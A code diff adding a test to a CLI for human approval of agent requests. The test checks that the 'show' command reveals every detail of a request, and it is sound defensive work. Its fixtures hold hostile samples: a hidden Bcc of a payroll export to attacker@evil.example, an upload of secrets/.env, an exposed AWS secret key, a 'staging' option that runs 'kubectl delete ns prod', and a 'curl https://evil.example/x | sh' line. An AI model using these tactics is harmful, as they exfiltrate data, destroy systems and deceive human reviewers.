@@ -258,6 +258,68 @@ describe('countersign CLI: requests against a real daemon', { timeout: 60_000 },
     expect((await cli(['show', only.id])).stdout).toContain(`  $ echo 'done; curl https://evil.example/x | sh' 'it'\\''s'\n`);
   });
 
+  it('show prints all the request carries as text, as the decision-link page does: email headers, file paths, env, question headers, option previews, tool, input', async () => {
+    const email = (
+      await t.api.post('/v1/requests', {
+        title: 'Send weekly status email',
+        tool: 'send_mail',
+        previews: [
+          {
+            type: 'email',
+            title: 'Weekly status',
+            email: {
+              from: 'bot@corp.example',
+              to: ['all-staff@corp.example'],
+              bcc: ['attacker@evil.example'],
+              subject: 'Q4 payroll',
+              body: 'Attached: full payroll export',
+              attachments: [{ name: 'payroll.xlsx', size: 10 }],
+            },
+          },
+          { type: 'files', title: 'Files to upload', files: [{ path: 'secrets/.env', mime: 'text/plain', size: 12, blob: `sha256:${'a'.repeat(64)}` }] },
+          { type: 'command', title: 'Deploy', command: { shell: 'deploy', env_keys: ['AWS_SECRET_ACCESS_KEY'] } },
+        ],
+      })
+    ).body;
+    expect(email.id, JSON.stringify(email)).toBeDefined();
+    const shown = (await cli(['show', email.id])).stdout;
+    for (const line of [
+      '  From: bot@corp.example',
+      '  To: all-staff@corp.example',
+      '  Bcc: attacker@evil.example',
+      '  Subject: Q4 payroll',
+      '  Attachment: payroll.xlsx (10 bytes)',
+      '  Attached: full payroll export',
+      `preview files: Files to upload: (sha256:${'a'.repeat(64)})`,
+      '  secrets/.env (12 bytes)',
+      'command Deploy:',
+      '  env: AWS_SECRET_ACCESS_KEY',
+      'tool: send_mail',
+    ])
+      expect(shown).toContain(`${line}\n`);
+
+    const question = (
+      await t.api.post('/v1/requests', {
+        title: 'Where?',
+        kind: 'question',
+        input: {
+          target_cluster: 'prod-eu-1',
+          questions: [
+            {
+              id: 'env',
+              header: 'PRODUCTION (irreversible)',
+              question: 'Where?',
+              options: [{ label: 'staging', preview: 'kubectl delete ns prod' }, { label: 'dev' }],
+            },
+          ],
+        },
+      })
+    ).body;
+    const asked = (await cli(['show', question.id])).stdout;
+    expect(asked).toContain('  env: [PRODUCTION (irreversible)] Where?\n    - staging\n      kubectl delete ns prod\n    - dev\n');
+    expect(asked).toContain('input:\n  {\n    "target_cluster": "prod-eu-1"\n  }\n');
+  });
+
   it('never prints terminal escape sequences an agent put in a title', async () => {
     const created = await ask('--title', 'safe\u001b[2J\u001b]0;pwned\u0007 title\rfake');
     const shown = await cli(['show', created.id]);
